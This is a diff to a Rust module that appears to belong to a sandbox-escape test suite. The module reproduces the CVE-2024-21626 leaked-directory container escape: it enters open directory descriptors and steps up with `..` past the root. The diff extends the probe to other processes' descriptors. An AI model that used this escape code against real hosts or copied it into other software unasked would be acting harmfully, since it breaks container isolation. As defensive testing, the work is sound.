@@ -1,4 +1,4 @@
-//! `leaked-directory`: out through a directory that somebody left open. CVE-2024-21626.
+//! `leaked-directory [others]`: out through a directory that somebody left open. CVE-2024-21626.
 //!
 //! An open directory is not bound to a root: whoever holds its descriptor can step into it, and `..` leads up from
 //! there past every root. In 2024 runc left the host's `/sys/fs/cgroup` open for a moment too long, and an image
@@ -9,7 +9,7 @@
 //! Stopped by: chapter 1's `exec_program`, which marks all descriptors but three as closed on exec.
 
 use crate::named;
-use crate::processes::proc;
+use crate::processes::{proc, processes};
 use coracle_ground::{Errno, Error, Result};
 use std::os::unix::fs::MetadataExt;
 use std::path::{Path, PathBuf};
@@ -17,11 +17,20 @@ use std::path::{Path, PathBuf};
 /// More steps up than any path has.
 const STEPS: usize = 100;
 
-/// Tries the working directory, then each descriptor.
-pub(crate) fn run(_: &[String]) -> Result<String> {
+/// Higher numbers of descriptors are not looked at.
+const MOST: u32 = 256;
+
+/// Tries the working directory, then each descriptor of this process; with `others`, those of all that it may look into.
+pub(crate) fn run(arguments: &[String]) -> Result<String> {
     proc()?;
     let ours = identity(Path::new("/"))?;
-    let open = (0..256).map(|number| PathBuf::from(format!("/proc/self/fd/{number}")));
+    let mut holders = vec!["self".to_string()];
+    if arguments.first().is_some_and(|word| word == "others") {
+        holders.extend(processes("/proc")?.iter().map(ToString::to_string));
+    }
+    let open = holders.into_iter().flat_map(|process| {
+        (0..MOST).map(move |number| PathBuf::from(format!("/proc/{process}/fd/{number}")))
+    });
     let doors = [PathBuf::from(".")].into_iter().chain(open.filter(|door| door.is_dir()));
     for door in doors {
         if std::env::set_current_dir(&door).is_err() {
